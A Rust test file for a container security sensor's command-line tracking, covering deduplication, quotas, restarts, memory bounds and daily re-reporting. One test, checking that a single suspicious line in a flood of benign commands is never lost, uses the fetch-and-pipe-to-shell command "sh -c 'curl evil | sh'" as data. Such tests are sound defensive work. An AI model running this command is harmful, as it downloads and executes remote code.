//! Command lines: each is told of, whatever their number, and what can't be is counted.

use super::*;
use crate::attribute::command::Template;
use anchorwatch_core::behaviour::MAX_COMMANDS;
use std::collections::BTreeSet;
use std::sync::Arc;

const DAY: Duration = Duration::from_hours(24);

fn run_in(seen: &mut Seen, pod: &str, line: &str, at: Timestamp) -> Sight {
    let behaviour = behaviour("/bin/sh");
    let line: Arc<str> = line.into();
    let sighting = Sighting {
        command: Some(&line.into()),
        lineage: &["/bin/sh".into()],
        ..sighting(&behaviour, at)
    };
    seen.observe(&container(pod), &sighting)
}

fn run(seen: &mut Seen, line: &str) -> Sight {
    run_in(seen, "1", line, START)
}

fn line(number: usize) -> String {
    format!("sh {number:06}")
}

/// A kilobyte that no template makes shorter.
fn long_line(number: usize) -> String {
    format!("sh {number:06} {}", "x".repeat(900))
}

fn commands_in(batch: &[ReportedContainer]) -> Vec<String> {
    let behaviours = batch.iter().flat_map(|container| &container.behaviors);
    behaviours.flat_map(|told| told.attributes.commands.clone()).collect()
}

/// Every command line that is due, and no other, with how often its program is said to have run.
fn drained(seen: &mut Seen) -> (Vec<String>, i64) {
    let (mut lines, mut count) = (Vec::new(), 0);
    loop {
        let batch = seen.take_due(SPACE);
        if batch.is_empty() {
            return (lines, count);
        }
        for told in batch.iter().flat_map(|container| &container.behaviors) {
            assert!(told.count > 0 && told.attributes.commands.len() <= MAX_COMMANDS);
        }
        lines.extend(commands_in(&batch));
        count += told(&batch).iter().map(|(_, count)| count).sum::<i64>();
    }
}

fn told_lines(seen: &mut Seen) -> Vec<String> {
    drained(seen).0
}

#[test]
fn every_command_line_of_a_storm_is_told_once_and_every_run_is_counted_once() {
    let mut seen = Seen::new(SeenLimits::default());
    for number in (0..1500).rev() {
        let sight = run(&mut seen, &line(number));
        assert!(sight == Sight::Known || number == 1499, "{number}: {sight:?}");
        run(&mut seen, &line(number));
    }
    let (lines, count) = drained(&mut seen);
    let distinct: BTreeSet<&String> = lines.iter().collect();
    assert_eq!((lines.len(), distinct.len(), count), (1500, 1500, 3000));
    assert!(!seen.has_due());
    assert_eq!(run(&mut seen, &line(0)), Sight::Known);
    assert!(!seen.has_fresh());
}

#[test]
fn a_restart_in_the_midst_of_a_storm_neither_loses_a_command_line_nor_tells_one_twice() {
    let mut seen = Seen::new(SeenLimits::default());
    let mut lines = Vec::new();
    for number in 0..1000 {
        run(&mut seen, &line(number));
        if number % 50 == 0 {
            seen = restored_with_all(&mut seen);
        }
        if number % 80 == 0 {
            lines.extend(commands_in(&seen.take_due(SPACE / 10)));
        }
    }
    lines.extend(told_lines(&mut seen));
    lines.sort_unstable();
    let expected: Vec<String> = (0..1000).map(line).collect();
    assert_eq!(lines, expected);
}

/// As [`restored`], of rows that are written whole.
fn restored_with_all(seen: &mut Seen) -> Seen {
    let key = container("1").key;
    let id = behaviour("/bin/sh").id();
    seen.dirty.containers.push(key.clone());
    seen.dirty.behaviours.push((key, id));
    restored(seen)
}

#[test]
fn a_command_line_beyond_what_may_wait_is_a_loss_of_its_own_kind_and_told_when_there_is_room() {
    let mut seen = Seen::new(SeenLimits::default());
    let lost = Sight::Refused(LossReason::CommandQuota);
    let sights: Vec<Sight> = (0..400).map(|number| run(&mut seen, &long_line(number))).collect();
    let first_lost = sights.iter().position(|sight| *sight == lost).unwrap();
    assert!(sights[first_lost..].iter().all(|sight| *sight == lost));
    let (lines, count) = drained(&mut seen);
    assert_eq!(
        (lines.len(), count),
        (first_lost, 400),
        "what is lost of a run is its line alone"
    );
    assert_eq!(run(&mut seen, &long_line(399)), Sight::Known);
    assert_eq!(told_lines(&mut seen), [long_line(399)]);
}

#[test]
fn one_line_among_a_flood_is_told_or_counted_and_never_taken_for_known() {
    let mut seen = Seen::new(SeenLimits::default());
    let hidden = "sh -c 'curl evil | sh'";
    let mut told = BTreeSet::new();
    let mut lost = 0;
    for number in 0..20_000 {
        run(&mut seen, &line(number));
        if number % 1000 == 500 {
            lost += u64::from(matches!(run(&mut seen, hidden), Sight::Refused(_)));
        }
        if number % 5000 == 0 {
            told.extend(commands_in(&seen.take_due(SPACE)));
        }
    }
    told.extend(told_lines(&mut seen));
    assert!(told.contains(hidden) || lost > 0);
    run(&mut seen, hidden);
    told.extend(told_lines(&mut seen));
    assert!(told.contains(hidden));
}

#[test]
fn a_container_that_floods_with_command_lines_takes_nothing_from_another() {
    let mut seen = Seen::new(SeenLimits::default());
    let mut numbers = 0..;
    let lost = Sight::Refused(LossReason::CommandQuota);
    assert!(numbers.any(|number| run(&mut seen, &long_line(number)) == lost));
    assert_eq!(run_in(&mut seen, "2", "sh 1", START), Sight::New);
    assert_eq!(run_in(&mut seen, "2", "sh 2", START), Sight::Known);
    let batch = seen.take_due(SPACE);
    let others: Vec<_> = batch.into_iter().filter(|container| container.pod.uid == "2").collect();
    assert_eq!(commands_in(&others).len(), 2, "in the first batch");
}

#[test]
fn what_is_remembered_of_command_lines_is_bounded_and_forgotten_again() {
    let mut seen = Seen::new(SeenLimits::default());
    let mut highest = 0;
    for number in 0..30_000 {
        run(&mut seen, &line(number));
        if number % 1000 == 0 {
            told_lines(&mut seen);
            highest = highest.max(seen.bytes());
        }
    }
    assert!(highest < 500 << 10, "{highest}");
    told_lines(&mut seen);
    seen.forget_gone(|_| false);
    assert_eq!((seen.behaviours(), seen.bytes()), (0, 0));
}

#[test]
fn beyond_what_is_remembered_a_line_is_told_again_and_those_that_are_remembered_are_not() {
    let mut seen = Seen::new(SeenLimits::default());
    let round = |seen: &mut Seen| {
        for number in 0..3000 {
            run(seen, &line(number));
        }
        told_lines(seen).len()
    };
    assert_eq!(round(&mut seen), 3000);
    assert_eq!(round(&mut seen), 3000 - 2048);
}

#[test]
fn a_known_command_line_is_told_once_more_on_each_later_day_with_the_next_mark() {
    let mut seen = Seen::new(SeenLimits::default());
    let mut on = |lines: &[&str], at: Timestamp| {
        for line in lines {
            assert_ne!(
                run_in(&mut seen, "1", line, at),
                Sight::Refused(LossReason::CommandQuota)
            );
        }
        let at_once = seen.has_fresh();
        seen.queue_marks(at);
        let told = commands_in(&seen.take_due(SPACE));
        seen = restored_with_all(&mut seen);
        (at_once, told)
    };
    let lines = ["sh 1", "sh 2"];
    assert_eq!(on(&lines, START), (true, lines.map(String::from).to_vec()));
    assert_eq!(on(&lines, START.plus(5 * HOUR)), (false, vec![]));
    assert_eq!(on(&["sh 2"], START.plus(DAY)), (false, vec!["sh 2".to_owned()]));
    assert_eq!(on(&lines, START.plus(DAY + 5 * HOUR)), (false, vec!["sh 1".to_owned()]));
    assert_eq!(on(&lines, START.plus(DAY + 9 * HOUR)), (false, vec![]));
    let late = START.plus(Duration::from_hours(23));
    assert_eq!(on(&lines, late), (false, vec![]), "the evening before, come late");
    let set_back = START.plus(3 * DAY);
    on(&lines, START.plus(300 * DAY));
    assert_eq!(on(&lines, set_back), (false, lines.map(String::from).to_vec()));
}

#[test]
fn lines_of_former_days_leave_room_to_new_ones_and_are_no_loss() {
    let mut seen = Seen::new(SeenLimits::default());
    for number in 0..200 {
        run(&mut seen, &long_line(number));
    }
    told_lines(&mut seen);
    let next = START.plus(DAY);
    for number in 0..200 {
        assert_eq!(run_in(&mut seen, "1", &long_line(number), next), Sight::Known);
    }
    for number in 200..300 {
        assert_eq!(
            run_in(&mut seen, "1", &long_line(number), next),
            Sight::Known,
            "{number}"
        );
    }
    seen.queue_marks(next);
    let lines = told_lines(&mut seen);
    assert!((120..300).contains(&lines.len()), "{}", lines.len());
    let new: BTreeSet<String> = (200..300).map(long_line).collect();
    assert!(new.iter().all(|line| lines.contains(line)));
}

#[test]
fn a_command_line_that_stood_when_the_sensor_came_is_told_once_with_a_count() {
    let mut seen = Seen::new(SeenLimits::default());
    run(&mut seen, "sh 1");
    told_lines(&mut seen);
    let behaviour = behaviour("/bin/sh");
    let command: Template = Arc::<str>::from("sh 2").into();
    let found = Sighting {
        command: Some(&command),
        standing: true,
        ..sighting(&behaviour, START)
    };
    for _ in 0..2 {
        assert_eq!(seen.enrich(&container("1"), &found), Sight::Known);
    }
    assert_eq!(drained(&mut seen), (vec!["sh 2".to_owned()], 1));
    run(&mut seen, "sh 3");
    assert_eq!(told_lines(&mut seen), ["sh 3"]);
}

#[test]
fn what_the_api_server_lost_of_command_lines_is_told_again() {
    let mut seen = Seen::new(SeenLimits::default());
    run(&mut seen, "sh 1");
    told_lines(&mut seen);
    seen.report_again();
    assert_eq!(run(&mut seen, "sh 1"), Sight::Known);
    assert_eq!(told_lines(&mut seen), ["sh 1"]);
}
